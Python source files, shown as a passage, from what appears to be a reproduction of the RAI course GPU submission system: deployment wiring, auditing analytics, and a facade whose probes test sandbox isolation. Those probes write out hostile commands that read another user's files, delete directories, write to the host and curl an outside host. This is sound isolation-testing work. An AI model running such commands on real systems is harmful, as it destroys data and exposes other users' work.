    """Deployment monitor: adds the submission event log Figure 4 uses.

    When handed a :class:`~repro.obs.metrics.MetricsRegistry` its counters
    live there (unprefixed) so every tally in the deployment — monitor,
    broker, planner — shares one queryable store; ``monitor.counters``
    keeps the legacy ``incr``/``get``/``as_dict`` surface as a thin view.
    """

    def __init__(self, sim, metrics: Optional[MetricsRegistry] = None):
        super().__init__(sim)
        if metrics is not None:
            self.counters = CounterGroup(metrics)
        #: (sim time, JobKind) per accepted submission.
        self.submission_events: List[tuple] = []

    def record_submission(self, time: float, kind: JobKind) -> None:
        self.submission_events.append((time, kind))
        self.incr("submissions_total")

    def submission_times(self) -> List[float]:
        return [t for t, _ in self.submission_events]


class RaiSystem:
    """A complete RAI deployment on one simulation kernel."""

    def __init__(self, seed: int = 0,
                 config: Optional[SystemConfig] = None,
                 registry: Optional[ImageRegistry] = None):
        self.config = config or SystemConfig()
        self.sim = Simulator()
        self.rng = RandomStreams(seed)
        #: The deployment-wide metrics registry: every counter, gauge, and
        #: histogram in the system lives here (§ the unified side of
        #: ``repro.obs``); legacy accessors are views over it.
        self.metrics = MetricsRegistry()
        self.monitor = SystemMonitor(self.sim, metrics=self.metrics)
        #: The deployment tracer; one submission = one trace spanning
        #: client → broker → worker → container → storage → docdb.
        self.tracer = Tracer(
            clock=lambda: self.sim.now,
            store=TraceStore(max_traces=self.config.trace_max_traces),
            enabled=self.config.tracing_enabled,
            metrics=self.metrics)
        #: The deployment-wide structured event log: state changes, slot
        #: churn, redeliveries, faults, pool traffic, scaling decisions,
        #: alert transitions — one queryable, trace-linked stream.
        self.events = EventLog(
            clock=lambda: self.sim.now,
            max_events=self.config.event_log_max_events,
            enabled=self.config.event_log_enabled)
        #: Per-tenant usage metering + fleet-cost attribution
        #: (``repro.obs.usage``).  Every layer below meters into
        #: ``self.usage``; the allocator prices it against whatever
        #: :class:`~repro.cluster.Provisioner`\s attach themselves.
        self.usage = UsageMeter(
            clock=lambda: self.sim.now,
            course=self.config.course_name,
            window_seconds=self.config.usage_window_seconds,
            enabled=self.config.usage_metering_enabled)
        self.cost_allocator = CostAllocator(
            self.usage, clock=lambda: self.sim.now,
            window_seconds=self.config.usage_window_seconds,
            budget_window_seconds=self.config.usage_budget_window_seconds,
            metrics=self.metrics, events=self.events)
        #: Provisioners currently attached (``repro.cluster``); the
        #: cluster_* gauges below sum over this list.
        self.provisioners: list = []

        self.broker = MessageBroker(self.sim, metrics=self.metrics,
                                    tracer=self.tracer, events=self.events)
        self.broker.usage = self.usage
        self.storage = ObjectStore(self.sim,
                                   chunk_size=self.config.chunk_size_bytes)
        self.storage.usage = self.usage
        #: Content-keyed build-artifact cache shared by every worker
        #: (``repro.storage.buildcache``); None reproduces the
        #: always-rebuild path.
        self.build_cache: Optional[BuildCache] = None
        if self.config.buildcache_enabled:
            self.build_cache = BuildCache(
                clock=lambda: self.sim.now,
                max_bytes=self.config.buildcache_max_bytes,
                ttl_seconds=self.config.buildcache_ttl_seconds,
                metrics=self.metrics, events=self.events)
        self.db = DocumentDB(self.sim, metrics=self.metrics)
        self.db.usage = self.usage

        #: The sharded control plane (``repro.shard``) when ``shards > 1``;
        #: None runs the exact unsharded legacy paths (shards=1 is
        #: behavior-identical to a build without this subsystem).
        self.shards: Optional[ShardedControlPlane] = None
        if self.config.shards > 1:
            self.shards = ShardedControlPlane(
                self.broker,
                ShardMap(self.config.shards, seed=self.config.shard_seed),
                metrics=self.metrics, events=self.events,
                steal_threshold=self.config.shard_steal_threshold,
                scheduler_factory=(self._partition_scheduler
                                   if self.config.scheduler_enabled
                                   else None),
                workers_fn=lambda: self.workers)
            # Submissions shard by the same map as the task topics, so a
            # team's records and its queue traffic share a partition.
            self.db.shard_collection("submissions", self.shards.shard_map)
        # The per-job dedup probe (worker._record, dead-letter drain) runs
        # once per submission; an index keeps it O(1) instead of a scan
        # over every submission the course has ever recorded.
        self.db.collection("submissions").create_index("job_id")
        # The scheduler's runtime estimator queries history per team and
        # per user; index both so SJF seeding stays O(matches).
        self.db.collection("submissions").create_index("team")
        self.db.collection("submissions").create_index("username")
        self.registry = registry if registry is not None else default_registry()
        self.keystore = KeyStore(rng=self.rng.stream("keystore"))
        self.rate_limiter = RateLimiter(
            clock=lambda: self.sim.now,
            window_seconds=self.config.rate_limit_seconds)
        self.ranking = RankingService(self.db)
        self.workers: List[RaiWorker] = []

        # Fair-share / deadline-aware dequeue on the shared task channel.
        # Every worker consumes "rai/tasks"; attaching the scheduler to
        # that channel reorders dispatch without touching the executors.
        # Sharded deployments instead run one scheduler per partition
        # (built by _partition_scheduler above), so this stays None there.
        self.scheduler: Optional[JobScheduler] = None
        if self.config.scheduler_enabled and self.shards is None:
            self.scheduler = self._partition_scheduler(0)
            self.broker.channel("rai/tasks").scheduler = self.scheduler

        # File-server buckets and the paper's lifetime rules (§IV/§V):
        # uploads expire one month after last use; build outputs after
        # three months.
        uploads = self.storage.create_bucket(self.config.upload_bucket)
        uploads.add_lifecycle_rule(LifecycleRule(
            expire_after=self.config.upload_lifetime_seconds,
            since="last_use"))
        builds = self.storage.create_bucket(self.config.build_bucket)
        builds.add_lifecycle_rule(LifecycleRule(
            expire_after=self.config.build_lifetime_seconds,
            since="creation"))

        # Callback gauges: live deployment signals readable straight off
        # the registry (and sampled into time series by TelemetrySampler).
        self.metrics.gauge("queue_depth", fn=self.queue_depth)
        self.metrics.gauge("workers_running",
                           fn=lambda: len(self.running_workers))
        self.metrics.gauge("jobs_active", fn=lambda: sum(
            w.active_jobs for w in self.running_workers))
        self.metrics.gauge("storage_bytes",
                           fn=lambda: self.storage.total_bytes)
        self.metrics.gauge("in_flight", fn=lambda: sum(
            len(channel.in_flight)
            for topic in self.broker.topics.values()
            for channel in topic.channels.values()))
        self.metrics.gauge("dead_letters", fn=self.broker.dead_letter_count)
        self.metrics.gauge("sched_wait_ewma", fn=self._sched_wait_ewma)
        self.metrics.gauge("fleet_slot_utilization",
                           fn=self.fleet_slot_utilization)
        self.metrics.gauge("warm_pool_hit_rate", fn=self.fleet_pool_hit_rate)
        self.metrics.gauge("buildcache_hit_rate",
                           fn=lambda: (self.build_cache.hit_rate()
                                       if self.build_cache else 0.0))
        self.metrics.gauge("buildcache_bytes",
                           fn=lambda: (self.build_cache.total_blob_bytes
                                       if self.build_cache else 0))
        # Fleet economics off the registry, not just `rai`/CostReport:
        # totals are unlabelled callback gauges (the sampler scrapes
        # them); per-instance-type splits are registered per type by the
        # provisioner itself.
        self.metrics.gauge("cluster_cost_usd_total",
                           fn=lambda: sum(p.total_cost()
                                          for p in self.provisioners))
        self.metrics.gauge("cluster_instances_live",
                           fn=lambda: sum(len(p.live_instances)
                                          for p in self.provisioners))
        self.metrics.gauge("cluster_instance_hours",
                           fn=lambda: sum(p.total_instance_hours()
                                          for p in self.provisioners))
        self.metrics.gauge("usage_attributed_cost_usd",
                           fn=self.cost_allocator.attributed_total)
        self.metrics.gauge("usage_idle_cost_usd",
                           fn=lambda: self.cost_allocator.idle_cost)
        self.metrics.gauge("usage_metered_tenants",
                           fn=self.usage.tenant_count)

        # The SLO loop: scraper (registry snapshots on the sim clock) →
        # engine (multi-window burn rates over the default objectives) →
        # alert manager (fire/resolve, recorded back into the event log).
        # All three are always constructed — `rai slo`/`rai alerts` work
        # on demand; :meth:`start_observability` adds the periodic loop.
        self.scraper = MetricsScraper(
            self.metrics, clock=lambda: self.sim.now,
            interval=self.config.scrape_interval_seconds,
            max_samples=self.config.scrape_max_samples)
        self.slo_engine = SloEngine(
            self.scraper,
            specs=default_slos(
                queue_wait_p95_seconds=self.config
                .slo_queue_wait_p95_seconds,
                success_target=self.config.slo_success_target),
            fast_window=self.config.slo_fast_window_seconds,
            slow_window=self.config.slo_slow_window_seconds,
            burn_rate_threshold=self.config.slo_burn_rate_threshold)
        self.alerts = AlertManager(clock=lambda: self.sim.now,
                                   events=self.events)
        self.alerts.attach_slo_engine(self.slo_engine)

        #: :class:`~repro.durability.DurabilityManager` once
        #: :meth:`attach_durability` (or :meth:`restore`) wires one in;
        #: None means the deployment is memory-only, as before.
        self.durability = None

    # -- construction helpers ------------------------------------------------

    @classmethod
    def standard(cls, num_workers: int = 1, seed: int = 0,
                 worker_config: Optional[WorkerConfig] = None,
                 config: Optional[SystemConfig] = None) -> "RaiSystem":
        """A ready-to-use deployment with ``num_workers`` identical workers."""
        system = cls(seed=seed, config=config)
        for _ in range(num_workers):
            system.add_worker(worker_config)
        return system

    def add_worker(self, config: Optional[WorkerConfig] = None) -> RaiWorker:
        # Worker ids are per-system (not the class-global counter) so that
        # RNG stream names — and thus timing jitter — are reproducible
        # across runs with the same seed.
        worker_id = f"worker-{len(self.workers) + 1:04d}"
        wconf = WorkerConfig(**vars(config)) if config is not None else None
        partition = None
        if self.shards is not None and \
                (wconf is None or wconf.task_route == WorkerConfig.task_route):
            # Round-robin home partitions; a caller-specified task_route
            # wins (it pinned the worker somewhere on purpose).
            partition = self.shards.assign_partition()
            if wconf is None:
                wconf = WorkerConfig()
            wconf.task_route = self.shards.shard_map.route(partition)
        worker = RaiWorker(self, config=wconf, worker_id=worker_id)
        worker.partition = partition
        self.workers.append(worker)
        self.monitor.incr("workers_started")
        # Per-worker labelled gauges (`rai top` reads these; the telemetry
        # sampler skips labelled gauges so they cost nothing per tick).
        self.metrics.gauge("worker_slot_utilization",
                           fn=worker.utilization, worker=worker.id)
        self.metrics.gauge("worker_pool_hit_rate",
                           fn=worker.pool_hit_rate, worker=worker.id)
        return worker

    def remove_worker(self, worker: Optional[RaiWorker] = None) -> None:
        """Stop (and drop) a worker — the scale-in path."""
        if worker is None:
            running = [w for w in self.workers if w.is_running]
            if not running:
                return
            worker = running[-1]
        worker.stop()
        self.monitor.incr("workers_stopped")

    @property
    def running_workers(self) -> List[RaiWorker]:
        return [w for w in self.workers if w.is_running]

    def new_client(self, team: Optional[str] = None,
                   username: Optional[str] = None,
                   on_line=None) -> RaiClient:
        """Issue credentials and hand back a configured client."""
        if username is None:
            username = f"student{len(self.keystore) + 1:03d}"
        credential = self.keystore.issue(username, team=team)
        if self.durability is not None:
            self.durability.auth_issue(asdict(credential))
        profile = RaiProfile(username=credential.username,
                             access_key=credential.access_key,
                             secret_key=credential.secret_key)
        return RaiClient(self, profile, team=team, on_line=on_line)

    def start_caretaker(self, interval: float = 60.0,
                        in_flight_timeout: float = 2 * 3600.0):
        """Start the broker's stale-message sweeper (at-least-once jobs).

        Opt-in because it is a perpetual process: a simulation with a
        caretaker never runs out of events, so drive it with
        ``run(until=...)``.
        """
        return self.sim.process(self.broker.caretaker(
            interval=interval, in_flight_timeout=in_flight_timeout))

    def start_observability(self):
        """Start the periodic scrape → SLO-judge → alert loop.

        Opt-in like the caretaker (a perpetual process); also arms the
        scraper's own heartbeat watchdog, so a wedged loop is itself an
        alert.  Without this, ``rai slo`` / ``rai alerts`` still work by
        scraping on demand — they just lack between-call history.
        """
        self.alerts.watch_heartbeat(
            "metrics-scraper",
            lambda: self.scraper.last_scrape_at,
            grace=3 * self.scraper.interval,
            summary="metrics scraper has stopped taking snapshots")

        def _on_scrape(snapshot):
            # Settle billing windows and push the per-team cost/burn
            # gauges before judging SLOs: the burn a budget SLO sees is
            # at most one scrape interval stale.
            self.cost_allocator.refresh(snapshot.time)
            self.alerts.check(now=snapshot.time, scrape=False)

        return self.sim.process(
            self.scraper.process(self.sim, on_scrape=_on_scrape))

    def set_team_budget(self, team: str, usd: float,
                        target: float = 0.75) -> SloSpec:
        """Give ``team`` a budget and an SLO that burns when it's blown.

        The allocator keeps a ``usage_budget_burn{team=...}`` set-gauge
        at spent/budget for the current budget period; the gauge-kind
        SLO here judges it through the standard multi-window burn-rate
        machinery, so a team that out-spends its budget fires (and, once
        back under, resolves) ``slo:budget-burn:<team>`` through the
        same AlertManager as every other objective.
        """
        self.cost_allocator.set_budget(team, usd)
        name = f"budget-burn:{team}"
        spec = self.slo_engine.spec(name)
        if spec is None:
            spec = self.slo_engine.add_spec(SloSpec(
                name=name, kind="gauge",
                description=f"{team} stays under its usage budget",
                metric="usage_budget_burn", label=f"team={team}",
                threshold=1.0, op="<=", target=target))
        return spec

    # -- failure recovery ------------------------------------------------------

    def drain_dead_letters(self) -> int:
        """One sweep: move every dead-lettered message into the docdb.

        Poison task messages (malformed, or redelivered past the attempt
        budget) must not vanish silently: each lands in ``submissions``
        with a ``dead_lettered`` status, and any client still waiting on
        the job's log topic is unblocked with a terminal End message.
        """
        drained = 0
        submissions = self.db.collection("submissions")
        for route, message in self.broker.drain_dead_letters():
            body = message.body if isinstance(message.body, dict) else {}
            job_id = body.get("job_id")
            if job_id is None or \
                    submissions.find_one({"job_id": job_id}) is None:
                submissions.insert_one({
                    "job_id": job_id,
                    "kind": body.get("kind"),
                    "username": body.get("username"),
                    "team": body.get("team"),
                    "worker": None,
                    "status": JobStatus.DEAD_LETTERED.value,
                    "exit_code": None,
                    "submitted_at": body.get("submitted_at"),
                    "finished_at": self.sim.now,
                    "route": route,
                    "attempts": message.attempts,
                    "message_id": message.id,
                })
            if job_id is not None and self.broker.has_topic(f"log_{job_id}"):
                self.broker.publish(f"log_{job_id}", {
                    "type": "end", "t": self.sim.now, "worker": None,
                    "status": JobStatus.DEAD_LETTERED.value,
                    "exit_code": None,
                    "reason": f"task message dead-lettered after "
                              f"{message.attempts} delivery attempts"})
            drained += 1
            self.monitor.incr("dead_letters_drained")
            self.monitor.log("dead_letter_drained", route=route,
                             message_id=message.id, job_id=job_id,
                             attempts=message.attempts)
            headers = message.headers or {}
            self.events.emit("job.state_change",
                             trace_id=headers.get("trace_id"),
                             span_id=headers.get("span_id"),
                             job_id=job_id, team=body.get("team"),
                             status=JobStatus.DEAD_LETTERED.value,
                             route=route, attempts=message.attempts)
        return drained

    def start_dead_letter_consumer(self, interval: Optional[float] = None):
        """Start the periodic dead-letter drain (opt-in, like the
        caretaker: it is a perpetual process)."""
        if interval is None:
            interval = self.config.dead_letter_sweep_seconds

        def _consumer_loop():
            while True:
                yield self.sim.timeout(interval)
                self.drain_dead_letters()

        return self.sim.process(_consumer_loop())

    def start_fault_plan(self, plan):
        """Arm a :class:`~repro.faults.FaultPlan` against this deployment;
        returns the started :class:`~repro.faults.FaultInjector`."""
        from repro.faults.injector import FaultInjector

        return FaultInjector(self, plan).start()

    # -- durability ----------------------------------------------------------

    def attach_durability(self, path: str, checkpoint: bool = True):
        """Start journaling every control-plane mutation under ``path``.

        An initial checkpoint captures the state that predates the
        journal (buckets, indexes, anything already submitted), so the
        directory alone is always sufficient to restore — pass
        ``checkpoint=False`` only when the caller checkpoints itself.
        """
        from repro.durability.manager import DurabilityManager

        manager = DurabilityManager(self, path)
        self.durability = manager
        self.db.journal = manager
        self.broker.journal = manager
        self.storage.journal = manager
        for cred in self.keystore.credentials():
            manager.auth_issue(asdict(cred))
        if checkpoint:
            manager.checkpoint()
        return manager

    def checkpoint(self) -> dict:
        """Snapshot-and-compact now (requires :meth:`attach_durability`)."""
        if self.durability is None:
            raise RuntimeError("no durability directory attached")
        return self.durability.checkpoint()

    def start_checkpointer(self, interval: float = 3600.0):
        """Periodic checkpointing (opt-in perpetual process, like the
        caretaker)."""

        def _checkpoint_loop():
            while True:
                yield self.sim.timeout(interval)
                if self.durability is not None and self.durability.active:
                    self.durability.checkpoint()

        return self.sim.process(_checkpoint_loop())

    def crash_stop(self) -> None:
        """Die without ceremony: stop journaling, take no final snapshot.

        Models the process being killed — the durability directory is
        left exactly as the last append left it (possibly mid-record),
        which is what :meth:`restore` must recover from.  The in-memory
        system is abandoned, not unwound.
        """
        if self.durability is not None:
            self.durability.close()
        self.db.journal = None
        self.broker.journal = None
        self.storage.journal = None

    @classmethod
    def restore(cls, path: str, num_workers: int = 1, seed: int = 0,
                worker_config: Optional[WorkerConfig] = None,
                config: Optional[SystemConfig] = None) -> "RaiSystem":
        """Cold-start a deployment from a durability directory.

        Builds a fresh system (configured from the snapshot unless
        ``config`` overrides), installs the last checkpoint, replays the
        WAL suffix, requeues orphaned in-flight deliveries (skipping jobs
        whose terminal record survived — exactly-once), rebuilds chunk
        refcounts, advances id watermarks, fast-forwards the clock, and
        finally re-arms journaling with a fresh compacting checkpoint.
        Workers are added last, so recovery itself executes nothing.
        """
        from repro.durability.manager import (
            RECOVERY_TIME_BUCKETS,
            DurabilityManager,
        )
        from repro.durability.snapshot import load_snapshot
        from repro.obs.events import EventType

        started = _wallclock.perf_counter()
        snap = load_snapshot(
            os.path.join(path, DurabilityManager.SNAPSHOT_FILE))
        if config is None and snap is not None and snap.get("config"):
            config = SystemConfig(**snap["config"])
        system = cls(seed=seed, config=config)
        manager = DurabilityManager(system, path, replaying=True)
        counts = manager.recover(snap)
        manager._replaying = False
        system.durability = manager
        system.db.journal = manager
        system.broker.journal = manager
        system.storage.journal = manager
        manager.checkpoint()
        for _ in range(num_workers):
            system.add_worker(worker_config)
        elapsed = _wallclock.perf_counter() - started
        system.metrics.histogram(
            "recovery.time", buckets=RECOVERY_TIME_BUCKETS).observe(elapsed)
        system.events.emit(
            EventType.DURABILITY_REPLAY,
            duration_s=round(elapsed, 6),
            snapshot=counts.get("snapshot") is not None,
            replayed=counts["replayed"], torn=counts["torn"],
            discarded=counts["discarded"], requeued=counts["requeued"],
            fenced=counts["fenced"], anomalies=counts["anomalies"])
        system.monitor.incr("restores")
        return system

    # -- running ------------------------------------------------------------

    def run(self, process_or_generator=None, until: Optional[float] = None):
        """Run a client/driver generator to completion (or to ``until``)."""
        if process_or_generator is None:
            return self.sim.run(until=until)
        if isinstance(process_or_generator, Generator):
            process_or_generator = self.sim.process(process_or_generator)
        return self.sim.run(until=process_or_generator)

    def run_all(self, generators) -> list:
        """Run several submissions concurrently; returns their results."""
        processes = [self.sim.process(g) if isinstance(g, Generator) else g
                     for g in generators]
        done = self.sim.all_of(processes)
        self.sim.run(until=done)
        return [p.value for p in processes]

    # -- sharding ------------------------------------------------------------

    def _partition_scheduler(self, partition: int) -> JobScheduler:
        """One fair-share scheduler instance (per partition when sharded;
        partition 0 doubles as the single shared instance otherwise)."""
        return JobScheduler(
            clock=lambda: self.sim.now,
            policy=SchedulerPolicy(
                quantum_seconds=self.config.sched_quantum_seconds,
                deadline_at=self.config.course_deadline_at,
                deadline_window_seconds=self.config
                .deadline_boost_window_seconds),
            estimator=RuntimeEstimator(history_fn=self._service_history),
            metrics=self.metrics, events=self.events,
            hit_predictor=(self._predict_build_hit
                           if self.build_cache is not None else None),
            hit_cost_factor=self.config.buildcache_hit_cost_factor)

    def _predict_build_hit(self, msg) -> bool:
        """SJF hint: has this message's source tree built here before?

        Purely advisory — a wrong guess only perturbs queue ordering by
        the cost factor, never correctness.
        """
        if self.build_cache is None:
            return False
        body = getattr(msg, "body", None)
        if not isinstance(body, dict):
            return False
        return self.build_cache.seen_source(body.get("source_digest"))

    def task_topic(self, key: Optional[str]) -> str:
        """The topic a submission keyed by ``key`` publishes to.

        The client's publish site: ``"rai"`` unsharded, the key's
        ``tasks.pK`` partition topic otherwise.
        """
        if self.shards is None:
            return "rai"
        _, topic = self.shards.route(key or "")
        return topic

    def note_completion(self, key: Optional[str],
                        service_seconds: float) -> None:
        """Feed a completed job's service time to the scheduler that owns
        ``key`` (the shared instance, or the key's partition scheduler)."""
        if not key:
            return
        if self.scheduler is not None:
            self.scheduler.note_completion(key, service_seconds)
        elif self.shards is not None:
            self.shards.note_completion(key, service_seconds)

    def start_shard_balancer(self, interval: Optional[float] = None):
        """Start the periodic shard rebalancer (opt-in, like the
        caretaker: it is a perpetual process).

        Pull-stealing only helps executors that are cycling; one parked
        on an empty partition's blocking ``get`` sleeps through a storm
        elsewhere.  The balancer migrates queued work to starving
        partitions, waking them (see ``ShardedControlPlane.rebalance``).
        """
        if self.shards is None:
            raise RuntimeError("deployment is not sharded (shards=1)")
        if interval is None:
            interval = self.config.shard_balance_interval_seconds

        def _balance_loop():
            while True:
                yield self.sim.timeout(interval)
                self.shards.rebalance()

        return self.sim.process(_balance_loop())

    # -- observability ------------------------------------------------------

    def _sched_wait_ewma(self) -> float:
        if self.scheduler is not None:
            return self.scheduler.wait_ewma()
        if self.shards is not None:
            return self.shards.max_wait_ewma()
        return 0.0

    def _service_history(self, key: str) -> List[float]:
        """Past service times for a fair-share key (team, else username).

        Seeds the scheduler's shortest-expected-job-first estimator from
        the submissions collection, so a restarted deployment remembers
        which teams run long jobs.
        """
        if not key:
            return []
        submissions = self.db.collection("submissions")
        docs = list(submissions.find({"team": key})) or \
            list(submissions.find({"username": key}))
        docs.sort(key=lambda d: d.get("finished_at") or 0.0)
        return [float(d["service_seconds"]) for d in docs
                if d.get("service_seconds")]

    def fleet_slot_utilization(self) -> float:
        """Instantaneous busy fraction of live executor slots."""
        slots = sum(w.slot_count for w in self.running_workers)
        active = sum(w.active_jobs for w in self.running_workers)
        return active / slots if slots else 0.0

    def fleet_pool_hit_rate(self) -> float:
        """Warm-pool hit fraction across every worker's acquires."""
        hits = sum(w.pool.hits for w in self.workers)
        total = hits + sum(w.pool.misses for w in self.workers)
        return hits / total if total else 0.0

    def queue_depth(self) -> int:
        """Jobs waiting in the task queue (incl. topic backlog)."""
        if self.shards is not None:
            return self.shards.queue_depth()
        if not self.broker.has_topic("rai"):
            return 0
        return self.broker.topics["rai"].depth

    def stats(self) -> dict:
        submissions = self.db.collection("submissions")
        return {
            "now": self.sim.now,
            "workers": {
                "total": len(self.workers),
                "running": len(self.running_workers),
                "jobs_completed": sum(w.jobs_completed for w in self.workers),
                "jobs_failed": sum(w.jobs_failed for w in self.workers),
            },
            "queue_depth": self.queue_depth(),
            "dead_letters": self.broker.dead_letter_count(),
            "scheduler": (self.scheduler.wait_stats() if self.scheduler
                          else self.shards.wait_stats()
                          if self.shards is not None else None),
            "shards": (self.shards.stats()
                       if self.shards is not None else None),
            "warm_pool": {
                "hit_rate": self.fleet_pool_hit_rate(),
                "pooled": sum(w.pool.pooled_count for w in self.workers),
            },
            "submissions_recorded": len(submissions),
            "storage": self.storage.stats(),
            "buildcache": (self.build_cache.stats()
                           if self.build_cache is not None else None),
            "database": self.db.stats(),
            "broker_counters": self.broker.counters.as_dict(),
            "rate_limiter": {
                "accepted": self.rate_limiter.total_accepted,
                "rejected": self.rate_limiter.total_rejected,
            },
            "events": self.events.stats(),
            "alerts": (self.alerts.stats() if self.alerts is not None
                       else {}),
            "usage": self.usage.stats(),
            "cost": self.cost_allocator.stats(),
        }
