"""Coursework auditing over the submissions database.

§IV: "the information in this database is useful for grading or any other
coursework auditing process."  This module is that process: per-team
activity, failure-mode breakdowns, and improvement curves computed with
the document database's aggregation pipeline.
"""

from __future__ import annotations

from typing import List, Optional

from repro.analysis.report import render_table
from repro.docdb import DocumentDB


class CourseworkAuditor:
    """Instructor analytics over the ``submissions`` collection."""

    def __init__(self, db: DocumentDB):
        self.db = db
        self.submissions = db.collection("submissions")

    # -- per-team activity ------------------------------------------------

    def team_activity(self) -> List[dict]:
        """Per-team submission counts, success rate, and best time."""
        rows = self.submissions.aggregate([
            {"$match": {"team": {"$ne": None}}},
            {"$group": {
                "_id": "$team",
                "submissions": {"$sum": 1},
                "succeeded": {"$sum": 0},  # filled below via second pass
                "best_time": {"$min": "$internal_time"},
                "first_at": {"$min": "$submitted_at"},
                "last_at": {"$max": "$finished_at"},
            }},
            {"$sort": {"submissions": -1}},
        ])
        success = {r["_id"]: r["n"] for r in self.submissions.aggregate([
            {"$match": {"status": "succeeded", "team": {"$ne": None}}},
            {"$group": {"_id": "$team", "n": {"$sum": 1}}},
        ])}
        for row in rows:
            row["succeeded"] = success.get(row["_id"], 0)
            row["success_rate"] = (row["succeeded"] / row["submissions"]
                                   if row["submissions"] else 0.0)
        return rows

    # -- failure modes ------------------------------------------------------

    def failure_breakdown(self) -> dict:
        """How jobs end, class-wide: status → count."""
        rows = self.submissions.aggregate([
            {"$group": {"_id": "$status", "n": {"$sum": 1}}},
            {"$sort": {"n": -1}},
        ])
        return {row["_id"]: row["n"] for row in rows}

    def exit_code_breakdown(self) -> dict:
        """Non-zero exit codes → counts (137 = OOM, 139 = crash, ...)."""
        rows = self.submissions.aggregate([
            {"$match": {"exit_code": {"$nin": [0, None]}}},
            {"$group": {"_id": "$exit_code", "n": {"$sum": 1}}},
            {"$sort": {"n": -1}},
        ])
        return {row["_id"]: row["n"] for row in rows}

    # -- improvement curves ------------------------------------------------

    def improvement_curve(self, team: str,
                          kind: Optional[str] = None) -> List[dict]:
        """A team's successful timings in submission order."""
        query = {"team": team, "status": "succeeded",
                 "internal_time": {"$exists": True, "$ne": None}}
        if kind is not None:
            query["kind"] = kind
        cursor = self.submissions.find(
            query, projection={"submitted_at": 1, "internal_time": 1,
                               "kind": 1, "_id": 0})
        return cursor.sort([("submitted_at", 1)]).to_list()

    def most_improved(self, top: int = 5) -> List[dict]:
        """Teams ranked by (first successful time / best time)."""
        out = []
        for team in self.submissions.distinct("team"):
            if team is None:
                continue
            curve = self.improvement_curve(team)
            if len(curve) < 2:
                continue
            first = curve[0]["internal_time"]
            best = min(row["internal_time"] for row in curve)
            if best > 0:
                out.append({"team": team, "first": first, "best": best,
                            "speedup": first / best})
        out.sort(key=lambda row: row["speedup"], reverse=True)
        return out[:top]

    # -- rendering ------------------------------------------------------------

    def render_summary(self, top: int = 10) -> str:
        activity = self.team_activity()[:top]
        table = render_table(
            ["team", "subs", "ok%", "best (s)"],
            [[row["_id"], row["submissions"],
              f"{row['success_rate'] * 100:.0f}",
              f"{row['best_time']:.3f}" if row["best_time"] is not None
              else "-"]
             for row in activity],
            title=f"Most active teams (top {top})")
        failures = self.failure_breakdown()
        lines = [table, "", "job outcomes: " + ", ".join(
            f"{status}={count}" for status, count in failures.items())]
        return "\n".join(lines)
