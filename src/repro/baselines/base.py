"""The common surface all compared systems implement.

The Table I axes, operationalised:

- **configurability** — can the student pick their own toolchain image
  and arbitrary build commands (profilers, debuggers, custom flags)?
- **isolation** — is one student's job prevented from touching another's
  files or the host?
- **scalability** — can the operator add execution capacity quickly
  enough to absorb a deadline burst?
- **accessibility** — can a remote student *without their own GPU and
  without institutional shell access* run GPU jobs?
- **testing uniformity** — can the course force every graded run through
  an identical, staff-controlled procedure?
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional


@dataclass
class BaselineJob:
    """A generic job description shared by all compared systems."""

    owner: str
    commands: List[str] = field(default_factory=list)
    image: Optional[str] = None          # requested environment
    needs_gpu: bool = True
    #: Behaviour flags probes use: "read_other_user", "write_host", ...
    mischief: Optional[str] = None
    service_seconds: float = 10.0


@dataclass
class SubmissionOutcome:
    """What happened to a job."""

    accepted: bool
    ran_requested_commands: bool = False
    used_requested_image: bool = False
    escaped_sandbox: bool = False
    enforced_grading_procedure: bool = False
    had_gpu: bool = False
    queue_wait: float = 0.0
    notes: str = ""


class SubmissionSystem:
    """Abstract comparison target."""

    name: str = ""

    #: Static facts a probe cannot synthesise from behaviour alone.
    remote_accessible_without_hardware: bool = False

    def submit(self, job: BaselineJob) -> SubmissionOutcome:
        raise NotImplementedError

    def add_capacity(self, units: int) -> int:
        """Try to add ``units`` of execution capacity; returns added."""
        return 0

    def capacity(self) -> int:
        raise NotImplementedError

    def grading_run(self, job: BaselineJob) -> SubmissionOutcome:
        """How a *graded* run happens on this system (uniformity probe).

        Default: the same as a normal submission — i.e. whatever the
        student's environment did, grading inherits.
        """
        return self.submit(job)
