"""RAI itself behind the comparison interface.

The facade drives a real :class:`~repro.core.system.RaiSystem` — the
probes exercise the same code paths students do, so Table I's RAI row is
*measured*, not asserted.
"""

from __future__ import annotations

from typing import Optional

from repro.baselines.base import BaselineJob, SubmissionOutcome, SubmissionSystem
from repro.buildspec.parser import render_build_spec
from repro.buildspec.spec import RaiBuildSpec
from repro.core.job import JobKind, JobStatus
from repro.core.system import RaiSystem

_DEFAULT_FILES = {
    "main.cu": "// @rai-sim quality=0.5 impl=analytic\nint main(){}\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
    "USAGE": "see report",
    "report.pdf": b"%PDF-1.4 probe",
}


class RaiFacade(SubmissionSystem):
    name = "RAI"
    remote_accessible_without_hardware = True

    def __init__(self, system: Optional[RaiSystem] = None):
        self.system = system or RaiSystem.standard(num_workers=2, seed=1234)
        self._client_counter = 0

    def _client(self, owner: str):
        self._client_counter += 1
        return self.system.new_client(
            team=f"probe-{owner}-{self._client_counter}",
            username=f"{owner}{self._client_counter}")

    def submit(self, job: BaselineJob) -> SubmissionOutcome:
        client = self._client(job.owner)
        files = dict(_DEFAULT_FILES)
        if job.mischief == "read_other_user":
            # Try to exfiltrate another job's files from the worker host.
            files["main.cu"] = ("// @rai-sim quality=0.1 impl=analytic\n"
                                "int main(){}\n")
            commands = ["cat /home/other_student/solution.cu"]
        elif job.mischief == "write_host":
            commands = ["rm -rf /src", "echo pwned > /usr/local/owned"]
        elif job.mischief == "network":
            commands = ["curl http://collusion.example.com/answers"]
        else:
            commands = job.commands or None

        if commands is not None:
            spec = RaiBuildSpec(version="0.1",
                                image=job.image or "webgpu/rai:root",
                                build_commands=list(commands))
            client.stage_project(files)
            client.set_build_file(render_build_spec(spec))
        else:
            client.stage_project(files)

        result = self.system.run(client.submit(JobKind.RUN))

        ran = result.status is JobStatus.SUCCEEDED
        stderr = result.stderr_text()
        escaped = False
        if job.mischief == "read_other_user":
            escaped = "No such file" not in stderr and ran
        elif job.mischief == "write_host":
            escaped = "Read-only" not in stderr and ran
        elif job.mischief == "network":
            escaped = "network" not in stderr.lower() and ran

        return SubmissionOutcome(
            accepted=result.status is not JobStatus.REJECTED,
            ran_requested_commands=ran,
            used_requested_image=result.status is not JobStatus.REJECTED,
            escaped_sandbox=escaped,
